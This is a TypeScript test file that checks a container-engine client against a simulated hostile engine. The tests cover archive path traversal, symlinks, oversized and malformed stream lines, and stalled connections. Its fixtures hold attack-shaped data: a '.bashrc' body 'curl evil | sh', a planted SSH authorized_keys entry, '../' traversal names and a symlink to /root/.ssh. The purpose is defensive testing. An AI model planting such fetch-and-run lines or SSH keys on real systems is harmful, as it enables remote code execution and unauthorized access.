// A hostile engine (an HTTP server on a unix socket: no real engine sends these bytes) gets
// nowhere: crafted archives write nothing outside the requested name, malformed or oversized
// stream lines are dropped one by one, and silent or stalled answers end in a clear error.
import * as assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as tarStream from 'tar-stream';
import { EngineClient } from '../../../src/core/engine/engineClient';
import { EventFollower } from '../../../src/core/engine/eventFollower';
import { EngineEvent } from '../../../src/core/engine/events';
import { copyFromContainer } from '../../../src/core/engine/operations/containerFiles';
import { containerLogs, execCommand, killContainer, renameContainer, runContainerAction, topContainer } from '../../../src/core/engine/operations/containerOperations';
import { imageHistory, pullImage, pushImage, runImage, saveImages, tagImage } from '../../../src/core/engine/operations/imageOperations';
import { attachedContainers, connectContainer, createNetwork } from '../../../src/core/engine/operations/networkOperations';
import { createVolume } from '../../../src/core/engine/operations/volumeOperations';
import { VolumeBrowser } from '../../../src/core/engine/operations/volumeBrowser';
import { copyToContainer } from '../../../src/core/engine/operations/containerFiles';
import { streamStats } from '../../../src/core/engine/operations/containerStats';
import { hangingSocket } from '../../support/hangingSocket';
import { HostileHandler, hostileEngine } from '../../support/hostileEngine';

function craftedTar(entries: { name: string; body?: string; type?: tarStream.Headers['type']; linkname?: string }[]): Promise<Buffer> {
  const pack = tarStream.pack();
  for (const { body = '', ...header } of entries) {
    pack.entry({ mode: 0o644, ...header, size: header.type && header.type !== 'file' ? 0 : Buffer.byteLength(body) }, header.type && header.type !== 'file' ? '' : body);
  }
  pack.finalize();
  const chunks: Buffer[] = [];
  return new Promise((resolve, reject) => {
    pack.on('data', (chunk: Buffer) => chunks.push(chunk));
    pack.on('end', () => resolve(Buffer.concat(chunks)));
    pack.on('error', reject);
  });
}

describe('a hostile engine', function () {
  this.timeout(20_000);
  const opened: { close(): Promise<void> }[] = [];
  const uncaught: unknown[] = [];
  const onUncaught = (error: unknown): void => void uncaught.push(error);
  before(() => process.on('uncaughtException', onUncaught));
  after(async () => {
    process.off('uncaughtException', onUncaught);
    await Promise.all(opened.map((server) => server.close()));
  });
  beforeEach(() => (uncaught.length = 0));

  async function engine(handler: HostileHandler, requestTimeoutMs = 2000): Promise<EngineClient> {
    const server = await hostileEngine(handler);
    opened.push(server);
    return new EngineClient({ kind: 'unix', socketPath: server.socketPath }, { requestTimeoutMs });
  }

  function archiveServer(tar: Buffer): HostileHandler {
    return (request, response) => {
      if (request.url?.includes('/archive')) {
        response.writeHead(200, { 'Content-Type': 'application/x-tar' });
        response.end(tar);
        return;
      }
      response.writeHead(404).end('{"message":"no"}');
    };
  }

  it('cannot make Copy from Container write .bashrc or .ssh/authorized_keys beside the requested folder', async () => {
    const tar = await craftedTar([{ name: 'out/', type: 'directory' }, { name: 'out/ok.txt', body: 'ok' }, { name: '.bashrc', body: 'curl evil | sh' }, { name: '.ssh/authorized_keys', body: 'ssh-ed25519 AAAA evil' }]);
    const client = await engine(archiveServer(tar));
    const dir = mkdtempSync(path.join(os.tmpdir(), 'dh-hostile-cp-'));
    await assert.rejects(copyFromContainer(client, 'c1', '/out', dir), /"\.bashrc", which is not under "out"/);
    assert.equal(existsSync(path.join(dir, '.bashrc')), false);
    assert.equal(existsSync(path.join(dir, '.ssh')), false);
  });

  it('cannot make Copy from Container write through absolute names, .. or links', async () => {
    for (const entries of [
      [{ name: '/tmp/dh-hostile-abs', body: 'x' }],
      [{ name: 'out/../../dh-hostile-up', body: 'x' }],
    ]) {
      const client = await engine(archiveServer(await craftedTar(entries)));
      const dir = mkdtempSync(path.join(os.tmpdir(), 'dh-hostile-cp-'));
      await assert.rejects(copyFromContainer(client, 'c1', '/out', dir), /unsafe name/);
      assert.equal(existsSync('/tmp/dh-hostile-abs'), false);
      assert.equal(existsSync(path.join(path.dirname(dir), 'dh-hostile-up')), false);
    }
    const client = await engine(archiveServer(await craftedTar([{ name: 'out', type: 'symlink', linkname: '/root/.ssh' }])));
    const dir = mkdtempSync(path.join(os.tmpdir(), 'dh-hostile-cp-'));
    const result = await copyFromContainer(client, 'c1', '/out', dir);
    assert.deepEqual(result.skipped, ['out (symlink → /root/.ssh)']);
    assert.equal(existsSync(path.join(dir, 'out')), false);
  });

  it('cannot make Copy from Container write more than the cap', async () => {
    const client = await engine(archiveServer(await craftedTar([{ name: 'out/', type: 'directory' }, { name: 'out/a', body: 'a'.repeat(4096) }, { name: 'out/b', body: 'b'.repeat(4096) }])));
    const dir = mkdtempSync(path.join(os.tmpdir(), 'dh-hostile-cp-'));
    await assert.rejects(copyFromContainer(client, 'c1', '/out', dir, undefined, { maxBytes: 5000 }), /larger than/);
    assert.equal(readFileSync(path.join(dir, 'out/a'), 'utf8').length, 4096);
    assert.equal(existsSync(path.join(dir, 'out/b')), false);
  });

  it('sends events with a fractional timeNano, a non-string Action and an oversized line: each is dropped, the next event arrives', async () => {
    const good = { Type: 'container', Action: 'start', Actor: { ID: 'good', Attributes: {} }, time: 1700000000, timeNano: 1700000000000000000 };
    const client = await engine((request, response) => {
      if (!request.url?.startsWith('/events')) {
        response.writeHead(404).end();
        return;
      }
      response.writeHead(200, { 'Content-Type': 'application/json' });
      response.write(`${JSON.stringify({ ...good, Actor: { ID: 'frac' }, timeNano: 1.5 })}\n`);
      response.write(`${JSON.stringify({ ...good, Actor: { ID: 'weird' }, Action: { split: 1 } })}\n`);
      response.write(`{"Type":"container","pad":"${'x'.repeat(3 * 1024 * 1024)}"}\n`);
      response.write('not json at all\n');
      response.write(`${JSON.stringify(good)}\n`);
    });
    const events: EngineEvent[] = [];
    const dropped: string[] = [];
    const follower = new EventFollower(client, { onEvent: (e) => events.push(e), onLive: () => undefined, onBroken: () => undefined, onDropped: (reason) => dropped.push(reason) });
    follower.start();
    try {
      const deadline = Date.now() + 10_000;
      while (events.length === 0 && Date.now() < deadline) {
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
    } finally {
      follower.stop();
    }
    assert.deepEqual(events.map((e) => e.actorId), ['good']);
    assert.equal(dropped.length, 2, `the oversized and the malformed line are reported: ${dropped.map((d) => d.slice(0, 60)).join(' | ')}`);
    assert.deepEqual(uncaught, [], 'nothing thrown out of the data handler');
  });

  it('sends malformed and oversized pull progress lines: they are dropped and the pull completes', async () => {
    const client = await engine((_request, response) => {
      response.writeHead(200, { 'Content-Type': 'application/json' });
      response.write('{"status":"Pulling from library/x","id":"latest"}\n');
      response.write('{not json\n');
      response.write(`{"status":"${'x'.repeat(2 * 1024 * 1024)}"}\n`);
      response.end('{"status":"Downloaded newer image for x:latest"}\n');
    });
    await pullImage(client, 'x', undefined, () => undefined);
    assert.deepEqual(uncaught, []);
  });

  it('stalls a pull after its first line: the pull stops after the idle limit with a clear error', async () => {
    const client = await engine((_request, response) => {
      response.writeHead(200, { 'Content-Type': 'application/json' });
      response.write('{"status":"Pulling from library/x","id":"latest"}\n');
      // and then nothing, with the connection open
    }, 100);
    await assert.rejects(pullImage(client, 'x', undefined, () => undefined), /No data from .* for 2 s; the transfer was stopped/);
  });

  it('stalls a stats stream: it ends with the same error instead of waiting for ever', async () => {
    const client = await engine((_request, response) => {
      response.writeHead(200, { 'Content-Type': 'application/json' });
      response.write('{"memory_stats":{"usage":1}}\n');
    }, 100);
    const samples: unknown[] = [];
    await assert.rejects(
      (async () => {
        for await (const sample of streamStats(client, 'c1', new AbortController().signal)) {
          samples.push(sample);
        }
      })(),
      /No data from .* the transfer was stopped/,
    );
    assert.equal(samples.length, 1);
  });

  it('takes an upload and never answers: Copy to Container fails after the idle limit instead of waiting for ever', async () => {
    const client = await engine((request) => {
      request.resume(); // reads everything, answers nothing
    }, 100);
    const dir = mkdtempSync(path.join(os.tmpdir(), 'dh-hostile-up-'));
    writeFileSync(path.join(dir, 'f.txt'), 'x');
    await assert.rejects(copyToContainer(client, 'c1', path.join(dir, 'f.txt'), '/tmp'), /No progress sending to .* for 2 s/);
  });

  it('closes the event stream again and again: the follower reconnects without piling up listeners', async () => {
    let opened = 0;
    const client = await engine((_request, response) => {
      opened += 1;
      response.writeHead(200, { 'Content-Type': 'application/json' });
      response.end();
    });
    const warnings: Error[] = [];
    const onWarning = (warning: Error): void => void warnings.push(warning);
    process.on('warning', onWarning);
    const follower = new EventFollower(client, { onEvent: () => undefined, onLive: () => undefined, onBroken: () => undefined }, { initialMs: 1, maxMs: 1 });
    try {
      follower.start();
      const deadline = Date.now() + 10_000;
      while (opened < 30 && Date.now() < deadline) {
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    } finally {
      follower.stop();
      await new Promise((resolve) => setTimeout(resolve, 50));
      process.off('warning', onWarning);
    }
    assert.ok(opened >= 30, `reconnected ${opened} times`);
    assert.deepEqual(warnings.map((w) => w.message), []);
  });

  it('keeps an event stream open and silent: a quiet engine that answers keeps it, one that stopped answering has it reopened', async () => {
    let versionRequests = 0;
    let answering = true;
    const client = await engine((request, response) => {
      if (request.url?.startsWith('/events')) {
        response.writeHead(200, { 'Content-Type': 'application/json' });
        response.flushHeaders(); // and nothing more, ever: like a connection that died without a close
        return;
      }
      if (request.url?.includes('/version')) {
        versionRequests += 1;
        if (answering) {
          response.writeHead(200, { 'Content-Type': 'application/json' }).end('{"Version":"27.0.0","ApiVersion":"1.47"}');
        }
        return;
      }
      response.writeHead(404).end();
    }, 100);
    const broken: unknown[] = [];
    const follower = new EventFollower(client, { onEvent: () => undefined, onLive: () => undefined, onBroken: (error) => broken.push(error) }, { initialMs: 60_000, maxMs: 60_000 });
    const waitFor = async (what: () => boolean): Promise<void> => {
      const deadline = Date.now() + 10_000;
      while (!what() && Date.now() < deadline) {
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
    };
    follower.start();
    try {
      await waitFor(() => versionRequests >= 2);
      assert.ok(versionRequests >= 2, 'the quiet stream is checked on');
      assert.deepEqual(broken, [], 'an engine that answers keeps its quiet stream');
      answering = false;
      await waitFor(() => broken.length > 0);
    } finally {
      follower.stop();
    }
    assert.equal(broken.length, 1);
    assert.match(String((broken[0] as Error | undefined)?.message), /the engine stopped answering while the event stream was quiet \(No answer from .* within 0 s\)/);
  });

  it('never answers at all: every operation fails within the request timeout instead of waiting for ever', async () => {
    const hanging = await hangingSocket();
    opened.push(hanging);
    const client = new EngineClient({ kind: 'unix', socketPath: hanging.socketPath }, { requestTimeoutMs: 200 });
    const dir = mkdtempSync(path.join(os.tmpdir(), 'dh-hang-ops-'));
    const operations: [string, () => Promise<unknown>][] = [
      ['start', () => runContainerAction(client, 'c1', 'start')],
      ['pause', () => runContainerAction(client, 'c1', 'pause')],
      ['rename', () => renameContainer(client, 'c1', 'new-name')],
      ['top', () => topContainer(client, 'c1')],
      ['logs', () => containerLogs(client, 'c1', { follow: true, timestamps: false, tail: 10 }, new AbortController().signal)],
      ['exec', () => execCommand(client, 'c1', ['true'])],
      ['copy from', () => copyFromContainer(client, 'c1', '/etc', dir)],
      ['tag', () => tagImage(client, 'a:1', 'b:2')],
      ['history', () => imageHistory(client, 'a:1')],
      ['pull', () => pullImage(client, 'a:1', undefined, () => undefined)],
      ['push', () => pushImage(client, 'a:1', undefined, () => undefined)],
      ['save', () => saveImages(client, ['a:1'], path.join(dir, 'a.tar'))],
      ['run', () => runImage(client, { image: 'a:1' })],
      ['create volume', () => createVolume(client, { name: 'v1' })],
      ['create network', () => createNetwork(client, { name: 'n1' })],
      ['connect', () => connectContainer(client, 'n1', 'c1')],
      ['network members', () => attachedContainers(client, 'n1')],
      ['list', () => client.listContainers()],
      ['inspect', () => client.inspect('image', 'a:1')],
    ];
    for (const [name, operation] of operations) {
      await assert.rejects(operation(), (error: Error) => error.name === 'TimeoutError', name);
    }
    await assert.rejects(VolumeBrowser.open(client, 'v1', [{ tag: 'busybox:latest' } as never]), /needs an image with \/bin\/ls/, 'the helper probe gives up too');
  });

  it('never answers a call that used to have no bound (kill): it fails within the request timeout', async () => {
    const hanging = await hangingSocket();
    opened.push(hanging);
    const client = new EngineClient({ kind: 'unix', socketPath: hanging.socketPath }, { requestTimeoutMs: 300 });
    await assert.rejects(killContainer(client, 'c1', 'SIGKILL'), (error: Error) => error.name === 'TimeoutError' && /No answer from .* within 0 s/.test(error.message));
  });
});
